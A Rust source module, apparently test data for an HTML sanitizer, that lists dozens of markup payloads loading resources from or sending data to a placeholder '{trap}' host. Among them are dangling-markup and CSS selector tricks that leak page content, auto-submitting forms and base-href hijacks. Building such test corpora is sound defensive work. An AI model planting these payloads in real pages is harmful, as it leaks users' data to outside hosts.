//! U2: markup that would load something or send something off.

use super::Attack;

const fn load(what: &'static str, html: &'static str) -> Attack {
    Attack::new("U2", what, html)
}

pub(super) const LOADING: &[Attack] = &[
    load("a picture", "<img src=http://{trap}/i>"),
    load("a picture without a scheme", "<img src=//{trap}/i>"),
    load(
        "a picture in sizes",
        "<img srcset=\"http://{trap}/1 1x, http://{trap}/2 2x\" sizes=10px>",
    ),
    load(
        "a picture of several sources",
        "<picture><source srcset=http://{trap}/i><img></picture>",
    ),
    load(
        "a picture that is not closed, so that it takes the rest along",
        "<img src='http://{trap}/?take=",
    ),
    load(
        "a background of a style",
        "<p style=\"background:url(http://{trap}/b)\">a</p>",
    ),
    load(
        "a background of a sheet",
        "<style>body,p{background:url(http://{trap}/b)}</style><p>a</p>",
    ),
    load(
        "a sheet that imports",
        "<style>@import 'http://{trap}/c';</style>",
    ),
    load(
        "a sheet with a letter face",
        "<style>@font-face{font-family:x;src:url(http://{trap}/f)}p{font-family:x}</style><p>a</p>",
    ),
    load(
        "a sheet that reads a value letter by letter",
        "<style>a[href^=\"h\"]{background:url(http://{trap}/h)}</style><a href=\"https://a.example/\">a</a>",
    ),
    load(
        "a sheet in escapes",
        "<style>p{b\\61 ckground:\\75rl(http://{trap}/e)}</style><p>a</p>",
    ),
    load(
        "a style with a set of pictures",
        "<p style=\"background:image-set('http://{trap}/s' 1x)\">a</p>",
    ),
    load(
        "a style with a mask and a filter",
        "<p style=\"mask:url(http://{trap}/m);filter:url(http://{trap}/f#x)\">a</p>",
    ),
    load(
        "a style with a pointer",
        "<p style=\"cursor:url(http://{trap}/c),auto\">a</p>",
    ),
    load(
        "a style with a mark of a list",
        "<ul style=\"list-style:url(http://{trap}/l)\"><li>a</ul>",
    ),
    load(
        "a style with content",
        "<style>p::after{content:url(http://{trap}/a)}</style><p>a</p>",
    ),
    load(
        "a sheet by a link",
        "<link rel=stylesheet href=http://{trap}/c>",
    ),
    load("a page ahead", "<link rel=prefetch href=http://{trap}/p>"),
    load(
        "a connection ahead",
        "<link rel=preconnect href=http://{trap}>",
    ),
    load(
        "a file ahead",
        "<link rel=preload as=image href=http://{trap}/p>",
    ),
    load(
        "a module ahead",
        "<link rel=modulepreload href=http://{trap}/p>",
    ),
    load(
        "a page drawn ahead",
        "<link rel=prerender href=http://{trap}/p>",
    ),
    load(
        "a manifest, an icon and a next page",
        "<link rel=manifest href=http://{trap}/m><link rel=icon href=http://{trap}/i><link rel=next href=http://{trap}/n>",
    ),
    load(
        "a page that turns by itself",
        "<meta http-equiv=refresh content=\"0;url=http://{trap}/r\">",
    ),
    load(
        "a page that turns by itself, in quotes",
        "<meta http-equiv=\"ReFresh\" content=\"0; URL='http://{trap}/r'\">",
    ),
    load("a cookie", "<meta http-equiv=set-cookie content=\"a=b\">"),
    load(
        "another base for all addresses",
        "<base href=http://{trap}/><a href=x>a</a><img src=x>",
    ),
    load(
        "a form that sends itself",
        "<form action=http://{trap}/f><input name=q value=1 autofocus><button>go</button></form>",
    ),
    load(
        "a button of a form elsewhere",
        "<form id=f></form><button form=f formaction=http://{trap}/f>go</button>",
    ),
    load(
        "a picture for a button",
        "<form action=http://{trap}/f><input type=image src=http://{trap}/b></form>",
    ),
    load(
        "an area of text that takes the rest along",
        "<form action=http://{trap}/f><button>go</button><textarea name=rest>",
    ),
    load(
        "a choice that takes the rest along",
        "<form action=http://{trap}/f><button>go</button><select><option>",
    ),
    load("a frame", "<iframe src=http://{trap}/f></iframe>"),
    load(
        "a frame that a fence is around",
        "<fencedframe src=http://{trap}/f></fencedframe>",
    ),
    load("a portal", "<portal src=http://{trap}/p></portal>"),
    load("an object", "<object data=http://{trap}/o></object>"),
    load("an embedded file", "<embed src=http://{trap}/e>"),
    load(
        "a film and its first picture",
        "<video src=http://{trap}/v poster=http://{trap}/p autoplay></video>",
    ),
    load(
        "a film with words",
        "<video><track default src=http://{trap}/t></video>",
    ),
    load("a sound", "<audio autoplay src=http://{trap}/a></audio>"),
    load(
        "a link that tells of its press",
        "<a href=\"mailto:a@example.com\" ping=http://{trap}/ping>a</a>",
    ),
    load("a link to a file", "<a download href=http://{trap}/d>a</a>"),
    load(
        "a map of a picture",
        "<map name=m><area href=http://{trap}/m shape=default></map><img usemap=#m src=x>",
    ),
    load(
        "a table with a background",
        "<table background=http://{trap}/t><tr><td background=http://{trap}/d>a</table>",
    ),
    load(
        "a body with a background",
        "<body background=http://{trap}/b>a",
    ),
    load(
        "a quotation with a source",
        "<blockquote cite=http://{trap}/q>a</blockquote><q cite=http://{trap}/q>b</q>",
    ),
    load(
        "a drawing with a picture",
        "<svg><image href=http://{trap}/i xlink:href=http://{trap}/x></image></svg>",
    ),
    load(
        "a drawing with a use of another",
        "<svg><use href=http://{trap}/u#x></use></svg>",
    ),
    load(
        "a drawing with a filter",
        "<svg><filter><feImage href=http://{trap}/f></feImage></filter></svg>",
    ),
    load(
        "a drawing with a sheet",
        "<svg><style>@import 'http://{trap}/c';</style></svg>",
    ),
    load(
        "an old element with a low source",
        "<img lowsrc=http://{trap}/l dynsrc=http://{trap}/d longdesc=http://{trap}/x>",
    ),
    load(
        "an old layer",
        "<layer src=http://{trap}/l></layer><ilayer src=http://{trap}/i></ilayer><bgsound src=http://{trap}/s>",
    ),
    load(
        "a picture from data",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{trap}/i'/></svg>\">",
    ),
    load(
        "a page within an application",
        "<html manifest=http://{trap}/m><head profile=http://{trap}/p>",
    ),
];
